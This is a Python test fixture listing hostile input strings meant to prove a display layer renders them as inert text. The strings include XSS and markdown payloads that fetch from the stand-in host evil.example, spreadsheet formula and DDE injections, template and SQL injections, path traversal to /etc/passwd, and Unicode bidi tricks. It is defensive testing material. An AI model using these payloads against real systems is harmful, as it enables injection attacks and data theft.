"""Words that try to do something wherever they are shown. None of them may do more than be read."""
# ruff: noqa: E501 - a word is easier to read when it stands on one line

from __future__ import annotations

from typing import Final

EVIL: Final = "http://evil.example"

_SCRIPT = (
    "<script>window.pwned=1</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<img src=x onerror=window.pwned=1>",
    "<img src=http://evil.example/i.png>", "<svg onload=window.pwned=1>", "<svg><script>window.pwned=1</script></svg>",
    "<iframe src=http://evil.example></iframe>", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=http://evil.example/o></object>", "<embed src=http://evil.example/e>", "<link rel=stylesheet href=http://evil.example/c.css>",
    "<style>@import 'http://evil.example/s.css';</style>", "<style>*{display:none}</style>", "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<body onload=window.pwned=1>", "<video src=http://evil.example/v></video>",
    "<audio src=http://evil.example/a autoplay>", "<details open ontoggle=window.pwned=1>x</details>", "<input autofocus onfocus=window.pwned=1>",
    "<form action=http://evil.example><input type=submit></form>", "<a href=http://evil.example>Klick</a>", "<a href=javascript:window.pwned=1>Klick</a>",
    "<math><mi xlink:href='javascript:window.pwned=1'>x</mi></math>", "<template><img src=x onerror=window.pwned=1></template>",
    "</title><script>window.pwned=1</script>", "</textarea><script>window.pwned=1</script>", "</style><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>", "\"><script>window.pwned=1</script>", "'><img src=x onerror=window.pwned=1>",
    "\" onmouseover=\"window.pwned=1", "' autofocus onfocus='window.pwned=1", "`onerror=window.pwned=1`", "<!--<img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>", "<scr<script>ipt>window.pwned=1</script>", "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;", "<b>fett</b><br><i>schräg</i>", "<marquee>läuft</marquee>", "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>", "javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>",
)  # fmt: skip
_MARKDOWN = (
    "![Bild](http://evil.example/m.png)", "[Klick](http://evil.example)", "[Klick](javascript:window.pwned=1)", "<http://evil.example>",
    "![Bild][1]\n\n[1]: http://evil.example/r.png", "[![Bild](http://evil.example/b.png)](http://evil.example)", "# Überschrift",
    "```\nwindow.pwned=1\n```", "`window.pwned=1`", "**fett** _schräg_ ~~weg~~", "| a | b |\n| - | - |\n| 1 | 2 |", "- Punkt\n- Punkt", "> Zitat",
    ":material/home: :material/bolt:", ":red[rot] :red-background[rot]", ":smile: :streamlit:", ":small[klein] :badge[Marke]", "$\\href{http://evil.example}{x}$",
    "$$\\includegraphics{http://evil.example/t.png}$$", "http://evil.example/auto", "www.evil.example", "---\n***\n___", "[^1]\n\n[^1]: Note", "<details><summary>x</summary></details>",
)  # fmt: skip
_FORMULA = (
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example\")", "=IMAGE(\"http://evil.example/x.png\")", "=1+1", "+1+1", "-1+1", "@SUM(1)",
    "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")", "-2+3+cmd|' /C calc'!A0", "%0A=1+1",
)  # fmt: skip
_TEMPLATE = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "{0.__class__}", "{shown}", "%s%n%x", "%(x)s", "{}", "{", "}", "__import__('os').system('x')",
    "'; DROP TABLE event; --", "\" OR 1=1 --", "1; ATTACH 'x.db'; --", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd",
)  # fmt: skip
_LETTERS = (
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066x\u2069", "\u200b\u200b\u200b", "\u0000null", "\ufeffBOM", "a\u0301" * 40, "Z\u0335\u0321\u0322\u0489" * 20,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 10, "\ufdfd" * 5, "ﷺ" * 3, "漢字" * 30, "العربية נסיון", "\u2028\u2029", "\x1b[31mrot\x1b[0m", "\x07\x08",
)  # fmt: skip
_LONG = ("A" * 5000, "Wort " * 1000, "ä" * 3000, "<b>" * 500, "(" * 800, "![" * 400, "\n" * 200, "W" * 300 + " http://evil.example")  # fmt: skip

HOSTILE: Final = (*_SCRIPT, *_MARKDOWN, *_FORMULA, *_TEMPLATE, *_LETTERS, *_LONG)
